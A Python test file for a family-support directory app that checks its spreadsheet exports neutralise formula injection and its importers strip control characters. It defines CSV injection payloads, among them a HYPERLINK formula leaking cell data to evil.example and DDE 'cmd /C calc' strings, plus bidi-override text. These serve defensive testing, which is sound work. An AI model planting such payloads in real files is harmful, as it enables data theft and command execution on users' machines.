"""Hostile text stays inert in spreadsheets and on screen.

Every CSV/XLSX writer (the family list, `export-directory --format csv`, the coverage exports,
the gap list) neutralises formulas with `text.spreadsheet_safe`; every importer (CSV template,
Open Referral UK, GIAS children's centres) removes NUL and bidi controls and reports each."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from directory import access, text
from directory.__main__ import EXIT_OK, main
from directory.ingest.csv_import import export_csv, read_services_csv
from directory.ingest.gias import read_childrens_centres
from directory.ingest.oruk import read_oruk
from directory.ingest.review import commit, review
from directory.store import Directory
from tests.stewards_data import gias_cc_csv, gias_cc_row, oruk_page, oruk_service, template_rows

# Payloads from OWASP's CSV injection page and the issue's own findings
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, PLUS, MINUS, AT, "\t=1+1", "\r=1+1"]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")


def live_formulas(cells) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character that is not a plain number."""
    out = []
    for c in cells:
        if isinstance(c, str) and c.startswith(RISKY_START):
            try:
                float(c)
            except ValueError:
                out.append(c)
    return out


def csv_cells(data: str | bytes) -> list[str]:
    if isinstance(data, bytes):
        data = data.decode("utf-8")
    return [c for row in csv.reader(io.StringIO(data, newline="")) for c in row]


# ---------------------------------------------------------------- the shared functions


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_gets_a_quote_and_comes_back(payload):
    safe = text.spreadsheet_safe(payload)
    assert safe == "'" + payload and not live_formulas([safe])
    assert text.spreadsheet_unescape(safe) == payload


def test_numbers_and_plain_text_are_untouched():
    for v in (-2.5198, 52, 0.0, None, "-2.5198", "+44", "1e-5", "Telford", "01952 000000", "'hello"[1:]):
        assert text.spreadsheet_safe(v) == v
    # a quote a steward typed stays, and one more is added when it could be confused with our escape
    assert text.spreadsheet_safe("'quoted") == "''quoted"
    assert text.spreadsheet_unescape("''quoted") == "'quoted"
    assert text.spreadsheet_unescape("'hello") == "'hello"  # not ours: kept
    assert text.spreadsheet_safe("+44 1952 000000") == "'+44 1952 000000"


def test_frame_keeps_numeric_columns_numeric():
    df = pd.DataFrame({"name": [HYPERLINK, "Hub", None], "lon": [-2.5, -1.0, 0.5], "n": [1, 2, 3],
                       "mixed": [DDE, 3, None]})
    out = text.spreadsheet_safe_frame(df)
    assert out.name.tolist()[:2] == ["'" + HYPERLINK, "Hub"] and pd.isna(out.name.iloc[2])
    assert out.lon.dtype == float and out.n.dtype == df.n.dtype and out.lon.tolist() == [-2.5, -1.0, 0.5]
    assert out.mixed.tolist()[:2] == ["'" + DDE, 3]
    assert df.name.iloc[0] == HYPERLINK  # the input is not changed


def test_strip_controls():
    assert text.strip_controls("live\u202eevil@x.com") == ("liveevil@x.com", 1)
    assert text.strip_controls("a\x00b\x07c\x1bd\x7f") == ("abcd", 4)
    assert text.strip_controls("\u2066x\u2069 \u200f0800 123\u200e 456\u061c") == ("x 0800 123 456", 5)
    assert text.strip_controls("line 1\r\nline 2\rline 3\tend") == ("line 1\nline 2\nline 3\tend", 0)
    assert text.strip_controls("Cymraeg: Canolfan Plant ŵ ŷ, اردو, עברית") == (
        "Cymraeg: Canolfan Plant ŵ ŷ, اردو, עברית", 0)
    assert text.strip_controls(None) == (None, 0) and text.strip_controls(5) == (5, 0)


# ---------------------------------------------------------------- writers

def hostile_rows() -> list[dict]:
    rows = []
    for i, p in enumerate(PAYLOADS[:5]):
        rows.append({"source_id": f"h{i}", "name": p, "types": "stay_and_play", "postcode": "TF1 1AA",
                     "organization": p, "description": p, "address": p, "town": p, "cost": p, "schedule": p,
                     "phone": p[:50], "website": p, "eligibility": p, "location_name": p, "referral_notes": p})
    return rows


@pytest.fixture()
def hostile(tmp_path, monkeypatch, areas) -> Directory:
    url = f"sqlite:///{tmp_path / 'hostile.sqlite'}"
    monkeypatch.setenv("FSM_DATABASE_URL", url)
    d = Directory(url).create()
    rv = review(read_services_csv(template_rows(hostile_rows()), "Council", areas.postcodes), d)
    assert rv.counts["new"] == 5, rv.report.problems
    commit(rv, d, "steward@example.org")
    yield d
    d.engine.dispose()


def test_directory_export_csv_has_no_live_formula_and_reimports_unchanged(hostile, areas):
    stored = hostile.records()
    assert {r.name for r in stored} == set(PAYLOADS[:5])  # stored as typed
    out = export_csv(stored)
    cells = csv_cells(out)
    assert not live_formulas(cells)
    assert cells.count("'" + HYPERLINK) >= 8  # escaped text
    lons = [c for c in cells if c.startswith("-2.") or c.startswith("'-2.")]
    assert lons and all(c.startswith("-2.") and float(c) for c in lons)  # numbers stay numbers
    again = review(read_services_csv(out.encode(), "Council", areas.postcodes), hostile)
    assert again.counts["unchanged"] == 5 and again.to_write == 0, again.report.problems


def test_export_directory_command(hostile, tmp_path, capsys):
    path = tmp_path / "directory.csv"
    assert main(["export-directory", "--format", "csv", "-o", str(path)]) == EXIT_OK
    cells = csv_cells(path.read_text(encoding="utf-8"))
    assert not live_formulas(cells) and "'" + DDE in cells


def test_family_list_download(hostile, monkeypatch):
    files = {}
    original = MediaFileManager.add_deferred

    def spy(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        files[file_name] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name=file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
    at = AppTest.from_file("../views/find_support.py", default_timeout=120)
    at.query_params["q"] = "TF1 1AA"
    at.run()
    assert not at.exception
    data = files["family-support-nearby.csv"]()
    got = pd.read_csv(io.BytesIO(data if isinstance(data, bytes) else data.encode()), dtype=str)
    hostile_names = got[got.source == "Council"]
    assert sorted(hostile_names.name) == sorted("'" + p for p in PAYLOADS[:5])
    assert not live_formulas(csv_cells(data))
    assert (got.distance_km.astype(float) >= 0).all()  # numbers stay numbers


def test_gap_list_csv(seeded, areas):
    measures = access.lsoa_measures(areas.lsoa, seeded.service_frame(), radius_km=1.6)
    gaps = access.gap_list(measures, radius_km=1.6, deciles=(1,))
    gaps.loc[gaps.index[0], "lsoa21_name"] = HYPERLINK
    gaps.loc[gaps.index[1], "ward24_name"] = AT
    out = text.safe_csv(gaps)
    assert not live_formulas(csv_cells(out))
    back = pd.read_csv(io.StringIO(out))
    assert back.lsoa21_name.iloc[0] == "'" + HYPERLINK and back.ward24_name.iloc[1] == "'" + AT
    assert back.nearest_km.dtype == float and len(back) == len(gaps)
    assert back.lsoa21_code.tolist() == gaps.lsoa21_code.tolist()


def test_gap_list_page_uses_the_safe_writer():
    """The page's gap list download and the family list go through text.safe_csv (the test above
    checks what it writes; test_family_list_download checks the family page end to end)."""
    from pathlib import Path

    for view in ("views/provision_gaps.py", "views/find_support.py"):
        src = (Path(__file__).resolve().parent.parent / view).read_text()
        assert "text.safe_csv(" in src and ".to_csv(" not in src, view


def test_coverage_csv_and_xlsx(seeded, areas, tmp_path):
    from directory import coverage as C
    from directory import exports as E
    from directory.areas import attach_areas

    services = attach_areas(seeded.service_frame(), areas)
    t = C.service_table(areas, services)
    f = t.frame.copy()
    f.loc[0, "name"], f.loc[1, "name"] = HYPERLINK, MINUS
    table = C.CoverageTable(f, t.metadata)
    cells = csv_cells(E.csv_bytes(table))
    assert not live_formulas(cells) and "'" + HYPERLINK in cells and "'" + MINUS in cells
    path, _ = E.write_csv(table, tmp_path / "c.csv")
    assert E.read_csv(path).frame.name.tolist()[:2] == [HYPERLINK, MINUS]  # the reader removes the quote
    xlsx = tmp_path / "c.xlsx"
    E.write_xlsx(table, xlsx)
    ws = load_workbook(xlsx)["service"]
    hits = [c for row in ws.iter_rows() for c in row if c.value in (HYPERLINK, MINUS)]
    assert len(hits) == 2 and all(c.data_type == "s" and c.quotePrefix for c in hits)


# ---------------------------------------------------------------- importers


def test_csv_template_strips_controls_and_reports_them(areas):
    rows = [{"name": "Hadley\x00 Stay and Play", "types": "stay_and_play", "postcode": "TF1 1AA",
             "email": "live\u202eevil@x.com", "phone": "\u200f01952 000000"},
            {"name": "Clean Group", "types": "stay_and_play", "postcode": "TF1 1AA"}]
    rep = read_services_csv(template_rows(rows), "Council", areas.postcodes)
    assert [r.name for r in rep.records] == ["Hadley Stay and Play", "Clean Group"]
    assert rep.records[0].email == "liveevil@x.com" and rep.records[0].phone == "01952 000000"
    warned = {(p.row, p.field) for p in rep.warnings}
    assert warned == {(2, "name"), (2, "email"), (2, "phone")}
    assert all("control character" in p.message for p in rep.warnings) and not rep.errors


def test_oruk_strips_controls_and_reports_them(areas, seeded):
    s = oruk_service("Baby Massage", lat=52.6998, lon=-2.5198, email="live\u202eevil@x.com")
    s["contacts"][0]["phones"][0]["number"] = "01724\x00 298212"
    rep = read_oruk(oruk_page([s]), "North Lincolnshire Council", areas.postcodes, seeded.taxonomy_map())
    assert len(rep.records) == 1, rep.problems
    r = rep.records[0]
    assert r.email == "liveevil@x.com" and r.phone == "01724 298212"
    assert {(p.row, p.field) for p in rep.warnings if "control" in p.message} == {
        (1, "email"), (1, "contacts[0].phones[0].number")}
    assert "\x00" not in json.dumps(r.to_dict()) and "\u202e" not in json.dumps(r.to_dict(), ensure_ascii=False)


def test_gias_childrens_centres_strip_controls(areas):
    data = gias_cc_csv([gias_cc_row(0, name="Hadley\u202e Children's Centre", TelephoneNum="01952\x00 000000")],
                       encoding="utf-8")
    rep = read_childrens_centres(data, areas.postcodes, "childrenscentres20250524.csv")
    assert [r.name for r in rep.records] == ["Hadley Children's Centre"]
    assert rep.records[0].phone == "01952 000000"
    assert {(p.row, p.field) for p in rep.warnings} == {(2, "EstablishmentName"), (2, "TelephoneNum")}


def test_nul_reaches_no_database(tmp_path, areas):
    """PostgreSQL refuses NUL in text: an upload with NULs imports (cleaned) instead of failing."""
    d = Directory(f"sqlite:///{tmp_path / 'n.sqlite'}").create()
    rows = [{"name": "A\x00B Group", "types": "stay_and_play", "postcode": "TF1 1AA", "description": "x\x00y"}]
    rv = review(read_services_csv(template_rows(rows), "Council", areas.postcodes), d)
    commit(rv, d, "steward@example.org")
    r = d.records()[0]
    assert (r.name, r.description) == ("AB Group", "xy")
